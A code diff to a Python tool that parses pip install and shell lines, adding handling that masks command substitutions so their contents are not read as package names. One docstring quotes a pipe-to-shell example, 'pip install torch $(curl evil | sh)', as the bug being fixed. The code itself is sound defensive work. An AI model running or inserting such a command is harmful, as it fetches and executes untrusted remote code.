@@ -252,6 +252,9 @@ class PipLines:
             if not self.hash_noted:
                 self.builder.note(DROPPED, "--hash pins dropped: the lock records its own", origin)
                 self.hash_noted = True
+        if SUBSTITUTION in text:
+            self.builder.note(UNREADABLE, f"{text}: a command's output, not run here", origin)
+            return
         if "$" in text:
             self.builder.note(UNREADABLE, f"{text}: environment variables are not expanded", origin)
             return
@@ -381,11 +384,53 @@ def shell_tokens(text: str, origin: Origin) -> list[str]:
 _OPERATORS = frozenset({";", "&&", "||", "|", "&", ";;", "|&"})
 
 
+SUBSTITUTION = "$(…)"  # a command substitution's place: its output is unknown here
+
+
+def _substitutions_unread(text: str) -> str:
+    """``text`` with each command substitution (``$(...)``, nested, or backquotes)
+    outside single quotes replaced by ``SUBSTITUTION``: what it prints is not known
+    without running it, and its own words are no arguments of the command around it
+    (``pip install torch $(curl evil | sh)`` installed a package named ``evil``)."""
+    if "$(" not in text and "`" not in text:
+        return text
+    out: list[str] = []
+    i, quoted = 0, False
+    while i < len(text):
+        char = text[i]
+        if char == "'" and not quoted:
+            end = text.find("'", i + 1)
+            if end == -1:
+                out.append(text[i:])
+                break
+            out.append(text[i : end + 1])
+            i = end + 1
+            continue
+        if char == '"':
+            quoted = not quoted
+        if text.startswith("$(", i) and not text.startswith("$((", i):
+            depth, j = 1, i + 2
+            while j < len(text) and depth:
+                depth += {"(": 1, ")": -1}.get(text[j], 0)
+                j += 1
+            out.append(SUBSTITUTION)
+            i = j
+            continue
+        if char == "`":
+            end = text.find("`", i + 1)
+            out.append(SUBSTITUTION)
+            i = len(text) if end == -1 else end + 1
+            continue
+        out.append(char)
+        i += 1
+    return "".join(out)
+
+
 def shell_commands(text: str, origin: Origin) -> list[list[str]]:
     """The simple commands of a shell line (split at ``;``, ``&&``, ``||``, ``|``
     outside quotes), each as its words; quotes nest as the shell's do
     (``A="$(echo "$B" | tr ';' ' ')"`` is one word)."""
-    lexer = shlex.shlex(text, posix=True, punctuation_chars=";&|")
+    lexer = shlex.shlex(_substitutions_unread(text), posix=True, punctuation_chars=";&|")
     lexer.whitespace_split = True
     lexer.commenters = ""
     commands: list[list[str]] = [[]]
